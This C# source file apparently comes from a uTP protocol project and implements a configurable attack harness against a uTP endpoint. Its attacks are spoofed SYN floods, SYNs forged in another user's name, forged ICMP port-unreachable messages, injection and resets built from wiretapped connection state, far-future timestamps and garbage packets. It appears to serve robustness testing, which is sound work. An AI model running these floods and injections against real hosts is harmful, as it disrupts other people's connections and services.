using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Utp.Protocol;

namespace Utp.Links.Hostile;

/// <summary>What is done to the victim.</summary>
public enum AttackKind
{
    /// <summary>ST_SYNs from random addresses and ports.</summary>
    SynFlood,

    /// <summary>ST_SYNs from the address of somebody who wants to connect.</summary>
    SynInName,

    /// <summary>ICMP "port unreachable" with the right addresses and ports that quote random bytes.</summary>
    ForgedIcmp,

    /// <summary>Packets of every type with the right addresses, ports, id and numbers, and a random tag or none.</summary>
    Injection,

    /// <summary>ST_STATEs with the right addresses, ports and id, and timestamps far ahead.</summary>
    FarTimestamps,

    /// <summary>Random bytes, and packets of unknown connections.</summary>
    Garbage,

    /// <summary>Real peers, each of which sends one packet far ahead, and vanishes.</summary>
    FarAhead,

    /// <summary>All of them, in turn packet by packet.</summary>
    All,
}

/// <summary>An attack as a program on a host from which any source can be forged.</summary>
/// <param name="Kind">What is done.</param>
/// <param name="Victim">Its IPv4 address.</param>
/// <param name="Port">Its port.</param>
/// <param name="User">Whose name is used.</param>
/// <param name="PerSecond">Packets a second.</param>
/// <param name="Duration">How long.</param>
internal sealed record Attack(AttackKind Kind, string Victim, int Port, string User, double PerSecond, TimeSpan Duration)
{
    private const int Peers = 100;
    private readonly Random _random = new(12);
    private readonly byte[] _packet = new byte[64];
    private Wiretap? _tap;
    private long _turn;

    /// <summary>Does it, and tells on the last line of <paramref name="output"/> how much was sent.</summary>
    public void Run(TextWriter output, CancellationToken stop)
    {
        using var sender = new RawSender();
        var victim = new Host(Host.AddressOf(Victim), (ushort)Port);
        var user = Host.AddressOf(User);
        var clock = Stopwatch.StartNew();
        if (Kind is AttackKind.FarAhead or AttackKind.All)
            SendFarAhead(stop);
        if (Kind is not (AttackKind.SynFlood or AttackKind.SynInName or AttackKind.Garbage or AttackKind.FarAhead))
            _tap = Wiretap.Start(victim);
        if (Kind != AttackKind.FarAhead)
            sender.Run(PerSecond, Duration, s => Add(s, victim, user), stop);
        sender.Flush();
        _tap?.Dispose();
        output.WriteLine(FormattableString.Invariant($"{{\"packets\":{sender.Sent},\"bytes\":{sender.Bytes},\"seconds\":{clock.Elapsed.TotalSeconds:0.000}}}"));
    }

    private void Add(RawSender sender, Host victim, uint user)
    {
        var kind = Kind == AttackKind.All ? (AttackKind)(_turn++ % (int)AttackKind.FarAhead) : Kind;
        switch (kind)
        {
            case AttackKind.SynFlood:
                sender.AddUdp(Anybody(), victim, Syn());
                break;
            case AttackKind.SynInName:
                sender.AddUdp(new Host(user, (ushort)_random.Next(1_024, 65_536)), victim, Syn());
                break;
            case AttackKind.Garbage:
                _random.NextBytes(_packet);
                if (_random.Next(2) == 0)
                    _packet[0] = (byte)((_random.Next(5) << 4) | 1);
                sender.AddUdp(Anybody(), victim, _packet.AsSpan(0, _random.Next(_packet.Length)));
                break;
            default:
                // Nobody has been heard yet: nothing to forge.
                if (_tap!.Last is not { } seen)
                    return;
                AddForged(sender, kind, victim, new Host(user, seen.UserPort), seen);
                break;
        }
    }

    private void AddForged(RawSender sender, AttackKind kind, Host victim, Host user, Wiretap.Seen seen)
    {
        if (kind == AttackKind.ForgedIcmp)
        {
            _random.NextBytes(_packet);
            sender.AddPortUnreachable(Anybody().Address, victim, user, _packet.AsSpan(0, 28));
            return;
        }

        // A ST_RESET that is exact in both numbers needs no tag (note 0034): 2^31 guesses, which a wiretap does not need.
        var isFar = kind == AttackKind.FarTimestamps;
        var type = isFar ? PacketType.State : (PacketType)_random.Next(4);
        var hasTag = _random.Next(2) == 0;
        var header = new PacketHeader(
            type, hasTag ? ExtensionType.PacketTag : ExtensionType.None, seen.Id.Next, new WireTimestamp(isFar ? (uint)_random.NextInt64(1L << 32) : seen.UserClock),
            0, 1 << 20, seen.AckNr.Plus(type == PacketType.Reset ? _random.Next(20_000, 40_000) : 1), isFar ? new SeqNr((ushort)_random.Next(1 << 16)) : seen.SeqNr.Previous);
        header.Write(_packet);
        var length = PacketHeader.Length;
        if (hasTag)
        {
            (_packet[length], _packet[length + 1]) = (0, PacketTag.Length);
            _random.NextBytes(_packet.AsSpan(length + 2, PacketTag.Length));
            length += 2 + PacketTag.Length;
        }

        if (type == PacketType.Data)
            _packet.AsSpan(length, 10).Fill((byte)'!');
        sender.AddUdp(user, victim, _packet.AsSpan(0, length + (type == PacketType.Data ? 10 : 0)));
    }

    // Addresses that nobody here has.
    private Host Anybody() => new(0x0B00_0000u | (uint)_random.Next(1 << 24), (ushort)_random.Next(1_024, 65_536));

    // Half of them show capabilities and ask for a tag.
    private ReadOnlySpan<byte> Syn()
    {
        var isOwn = _random.Next(2) == 0;
        new PacketHeader(
            PacketType.Syn, isOwn ? ExtensionType.CapabilitiesOrMetadata : ExtensionType.None, new ConnectionId((ushort)_random.Next(1 << 16)),
            new WireTimestamp((uint)_random.Next()), 0, 1 << 20, new SeqNr((ushort)_random.Next(1 << 16)), default).Write(_packet);
        if (!isOwn)
            return _packet.AsSpan(0, PacketHeader.Length);
        var rest = _packet.AsSpan(PacketHeader.Length);
        (rest[0], rest[1]) = (ExtensionType.PacketTag, CapabilitiesExtension.Length);
        CapabilitiesExtension.Write(rest[2..], Capabilities.OwnPeer | Capabilities.LargeWindow);
        (rest[10], rest[11]) = (ExtensionType.None, PacketTag.HandshakeLength);
        new PacketTag(0, (uint)_random.Next()).Write(rest[12..]);
        return _packet.AsSpan(0, PacketHeader.Length + 20);
    }

    // Foreign peers with an address: ST_SYN, the answer's acknowledgement, and one packet thousands ahead. They are never heard again.
    private void SendFarAhead(CancellationToken stop)
    {
        var victim = new IPEndPoint(IPAddress.Parse(Victim), Port);
        var buffer = new byte[2_048];
        for (var i = 0; i < Peers && !stop.IsCancellationRequested; i++)
        {
            using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp) { ReceiveTimeout = 2_000 };
            socket.Connect(victim);
            var packet = new byte[PacketHeader.Length + 1];
            new PacketHeader(PacketType.Syn, 0, new ConnectionId(500), new WireTimestamp(1), 0, 1 << 20, new SeqNr(1), default).Write(packet);
            socket.Send(packet.AsSpan(0, PacketHeader.Length));
            try
            {
                if (!PacketHeader.TryParse(buffer.AsSpan(0, socket.Receive(buffer)), out var answer))
                    continue;
                new PacketHeader(PacketType.State, 0, new ConnectionId(501), new WireTimestamp(2), 0, 1 << 20, new SeqNr(2), answer.SeqNr.Previous).Write(packet);
                socket.Send(packet.AsSpan(0, PacketHeader.Length));
                new PacketHeader(PacketType.Data, 0, new ConnectionId(501), new WireTimestamp(3), 0, 1 << 20, new SeqNr(4_000), answer.SeqNr.Previous).Write(packet);
                socket.Send(packet);
            }
            catch (SocketException)
            {
                // Not answered in time: the next one.
            }
        }
    }
}
